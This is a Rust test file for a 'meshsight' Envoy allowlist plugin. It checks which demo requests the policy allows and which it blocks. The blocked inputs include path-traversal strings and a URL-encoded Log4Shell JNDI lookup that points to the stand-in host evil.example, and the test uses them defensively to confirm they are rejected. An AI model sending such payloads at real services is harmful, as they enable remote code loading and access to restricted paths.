//! The allowlist section of the `make run` demo's policy (`envoy-config/envoy.yaml`, one
//! `meshsight` plugin running the whole document in one pass) compiles and answers as the
//! demo's curl lines say.

// Test helpers fail the test by panicking.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod demo;
mod stats;
use stats::counter;

#[test]
fn the_demo_policy_compiles_and_behaves_as_the_banner_says() {
    let mut host = demo::start_demo();
    for (method, path, status) in [
        ("GET", "/api/items", None),
        ("GET", "/api/orders/42", None),
        ("POST", "/api/orders", None),
        ("GET", "/health", None),
        ("GET", "/admin", Some(403)),
        ("GET", "/api/../admin", Some(403)),
        ("DELETE", "/api/items", Some(403)),
        ("GET", "/api/%2e%2e%2fadmin", Some(400)),
        ("GET", "/api/%2e%2e%2Fadmin", Some(400)),
        ("GET", "/search?q=shoes", None),
        ("GET", "/search?q=shoes&debug=1", Some(403)),
        ("GET", "/api//v1/%69tems", None),
        // The banner's blocked attack: denied like any unlisted path.
        (
            "GET",
            "/admin?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            Some(403),
        ),
    ] {
        let id = demo::get(&mut host, method, path, &[]);
        assert_eq!(
            host.local_response(id).map(|r| r.status),
            status,
            "{method} {path}"
        );
        if path == "/api//v1/%69tems" {
            let headers = host.request_header_map(id);
            assert!(
                headers.contains(&(":path".into(), "/api/v1/items".into())),
                "the demo rewrites to the checked path: {headers:?}"
            );
        }
        demo::finish(&mut host, id);
    }
    assert_eq!(counter(&mut host, "meshsight_allowlist_denied"), Some(5));
    assert_eq!(counter(&mut host, "meshsight_allowlist_malformed"), Some(2));
}
